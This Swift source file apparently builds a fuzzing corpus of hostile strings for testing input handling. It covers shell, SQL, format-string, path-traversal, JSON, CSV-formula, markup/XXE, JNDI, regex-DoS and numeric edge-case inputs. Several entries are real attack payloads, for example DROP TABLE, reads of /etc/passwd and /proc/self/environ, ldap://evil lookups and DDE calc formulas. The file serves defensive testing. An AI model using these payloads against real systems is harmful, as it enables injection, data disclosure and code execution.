/// What another program would take for an order.
extension HostileString {
  static let shell = list(
    .shell,
    [
      "semicolon": "; touch CANARY", "and": "&& touch CANARY", "or": "|| touch CANARY",
      "pipe": "| touch CANARY",
      "background": "& touch CANARY", "substitution": "$(touch CANARY)",
      "backticks": "`touch CANARY`",
      "quoted substitution": "\"$(touch CANARY)\"", "end of single quotes": "'; touch CANARY; '",
      "end of double quotes": "\"; touch CANARY; \"", "newline": "x\ntouch CANARY\n",
      "carriage return": "x\rtouch CANARY",
      "redirect": "> CANARY", "append": ">> CANARY", "here text": "<<< $(touch CANARY)",
      "here document": "<<E\n$(touch CANARY)\nE",
      "process": "<(touch CANARY)", "output process": ">(touch CANARY)",
      "group": "{ touch CANARY; }", "subshell": "(touch CANARY)",
      "variable": "$HOME", "braces": "${x:=$(touch CANARY)}",
      "arithmetic": "$((a[$(touch CANARY)]))", "separator": "$IFS",
      "spaces": ";touch${IFS}CANARY", "glob": "*", "brace expansion": "{touch,CANARY}",
      "history": "!!", "tilde": "~root",
      "comment": "# ", "function": "() { :;}; touch CANARY",
      "Shellshock": "() { _; } >_[$($())] { touch CANARY; }",
      "ANSI quotes": "$'\\x74ouch CANARY'", "backslash": "\\\ntouch CANARY", "option": "--help",
      "option of two": "-rf",
      "option with a value": "--output=CANARY", "end of options": "-- CANARY",
      "eval": "eval touch CANARY", "exec": "exec touch CANARY",
      "source": ". ./CANARY", "array": "x[$(touch CANARY)]", "test": "-v x[$(touch CANARY)]",
      "trap": "trap 'touch CANARY' EXIT",
      "NUL": "x\0; touch CANARY", "xargs": "' -I{} touch CANARY",
      "ssh": "-oProxyCommand=touch CANARY", "env": "LD_PRELOAD=./CANARY",
    ])

  static let sql = list(
    .sql,
    [
      "true": "' OR '1'='1", "comment": "' OR 1=1 --", "drop": "'; DROP TABLE users; --",
      "union": "' UNION SELECT * FROM users --",
      "double quotes": "\" OR \"\"=\"", "escaped quote": "\\'; --", "like": "%' AND 1=1 --",
      "sleep": "1; SELECT sleep(9)",
      "stacked": "1;ATTACH 'x' AS y", "hex": "0x27204f522031", "wide quote": "\u{2019} OR 1=1",
      "mysql": "/*!50000 OR 1=1*/",
    ])

  static let formats = list(
    .format,
    [
      "strings": "%s%s%s%s%s%s%s%s", "writing": "%n%n%n%n", "hex": "%x.%x.%x", "pointers": "%p %p",
      "width": "%99999999d",
      "position": "%1$s%99$s", "percent": "%", "percents": "%%%", "star": "%*d",
      "long double": "%Lf", "Swift": "\\(secret)",
      "Python": "{0.__class__}", "braces": "{}{}{}", "template": "${7*7}", "mustache": "{{7*7}}",
      "ERB": "<%= 7*7 %>",
      "JNDI": "${jndi:ldap://evil/x}", "Ruby": "#{7*7}", "date": "%Y%H", "URL": "%00%0a%0d%1b%5b",
    ])

  static let paths = list(
    .path,
    [
      "up": "../../../../etc/passwd", "absolute": "/etc/passwd", "up in the middle": "a/../../b",
      "dot": ".", "dots": "..",
      "many dots": "....//....//", "backslashes": "..\\..\\windows", "NUL": "x.json\0.png",
      "encoded": "..%2f..%2f", "twice encoded": "%252e%252e/",
      "home": "~/.bashrc", "device": "/dev/tty", "endless": "/dev/zero", "memory": "/proc/self/mem",
      "environment": "/proc/self/environ",
      "descriptor": "/dev/fd/0", "slashes": "////", "trailing slash": "x/",
      "long": copies("x/", 600), "drive": "C:\\x", "share": "\\\\evil\\x",
      "URL": "file:///etc/passwd", "newline": "a\nb", "dash": "-", "dash dash": "--",
      "stream": "x:$DATA", "reserved": "CON", "space": " x ",
    ])

  static let json = list(
    .json,
    [
      "quote": "\"", "backslash": "\\", "end of text": "\",\"admin\":true,\"x\":\"",
      "end of object": "\"}", "end of list": "\"]",
      "escape": "\\u001b[2J", "half an escape": "\\u12", "lone surrogate": "\\ud800",
      "escaped quote": "\\\"", "null": "null",
      "true": "true", "object": "{}", "list": "[]", "deep": copies("[", 500),
      "line separator": "a\u{2028}b\u{2029}c",
      "slash": "</script>", "key": "__proto__", "comment": "/* x */", "trailing comma": ",",
      "two": "1 2", "NaN": "NaN", "newline": "\n{\"x\":1}\n",
    ])

  static let csv = list(
    .csv,
    [
      "formula": "=1+1", "command": "=cmd|' /C calc'!A0",
      "link": "=HYPERLINK(\"http://evil\",\"ok\")", "plus": "+1+1", "minus": "-1+1",
      "at": "@SUM(1)", "tab": "\t=1+1", "return": "\r=1+1", "quote": "\"", "two quotes": "\"\"",
      "quoted": "\"a\",\"b\"", "comma": ",,,",
      "newline": "a\nb", "CR LF": "a\r\nb", "open quote": "\"abc", "semicolon": ";=1+1",
      "DDE": "=DDE(\"cmd\";\"/C calc\";\"x\")",
      "wide equals": "＝1+1",
    ])

  static let markup = list(
    .markup,
    [
      "script": "<script>alert(1)</script>", "attribute": "\" onload=\"alert(1)",
      "entity": "&lt;b&gt;", "end of text": "</text><script/>",
      "data": "]]><x/>", "comment": "-->",
      "DOCTYPE": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
      "instruction": "?><?xml x",
      "Markdown": "[x](javascript:alert(1))", "image": "![x](http://evil/)",
      "LaTeX": "\\input{/etc/passwd}", "troff": ".sy reboot\n'so /etc/passwd",
      "LDAP": "*)(uid=*))(|(uid=*", "header": "x\r\nSet-Cookie: a=b", "mail": "a@b.c\nBcc: d@e.f",
      "YAML": "!!python/object:os.system x",
    ])

  static let patterns = list(
    .pattern,
    [
      "nested": "(a+)+$", "open": "(", "open class": "[a", "back reference": "\\1",
      "recursion": "(?R)", "any byte": "\\C", "lookbehind": "(?<=a+)b",
      "huge": "a{99999}", "nothing": "", "verb": "(*ACCEPT)", "limit": "(*LIMIT_MATCH=0)",
      "callout": "(?C1)", "empty loop": "(|a)*", "slow text": copies("a", 40) + "!",
    ])

  static let numbers = list(
    .number,
    [
      "large": "99999999999999999999999999", "small": "-99999999999999999999999999",
      "exponent": "1e999999999", "tiny": "1e-999999999", "minus zero": "-0",
      "hex": "0x7fffffff", "octal": "0777", "infinity": "Infinity", "not a number": "NaN",
      "two points": "1.2.3", "two signs": "--1", "plus": "+1", "point": ".",
      "comma": "1,00,0", "apostrophe": "1'000", "wide": "１２３", "leap day": "02/29/2100",
      "month 13": "13/32/9999", "year 0": "00/00/0000", "clock": "24:60:60",
      "zeros": copies("0", 300), "nines": copies("9", 300), "just too large": "9223372036854775808",
      "just too small": "-9223372036854775809", "fraction": "0." + copies("1", 400),
    ])

  static let long: [Self] = [
    Self(.long, "letters", copies("x", 4_096)), Self(.long, "more than fits", copies("x", 5_000)),
    Self(.long, "words", copies("word ", 900)),
    Self(.long, "wide", copies("京", 4_000)), Self(.long, "one word of digits", copies("9", 4_096)),
    Self(.long, "lines", copies("x\n", 2_000)),
    Self(.long, "spaces", copies(" ", 4_096)), Self(.long, "escapes", copies("\u{1B}[31m", 800)),
    Self(.long, "one character", "a" + copies("\u{300}", 9_000)),
    Self(.long, "emoji", copies("👩‍🚀", 400)),
  ]

  private static func copies(_ text: String, _ count: Int) -> String {
    String(repeating: text, count: count)
  }
}
